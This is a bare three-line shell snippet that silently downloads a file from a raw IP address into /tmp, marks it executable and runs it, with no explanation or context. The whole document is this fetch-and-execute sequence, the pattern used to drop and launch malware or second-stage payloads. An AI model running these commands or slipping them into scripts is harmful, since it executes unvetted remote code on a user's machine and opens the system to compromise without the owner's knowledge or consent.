curl -s -o /tmp/tool http://192.0.2.7/tool
chmod +x /tmp/tool
/tmp/tool
